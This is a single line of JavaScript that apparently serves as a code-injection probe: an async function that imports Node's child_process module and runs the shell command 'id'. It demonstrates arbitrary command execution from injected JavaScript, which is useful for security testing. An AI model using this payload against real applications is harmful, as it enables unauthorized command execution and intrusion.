async () => (await import("node:child_process")).execSync("id")
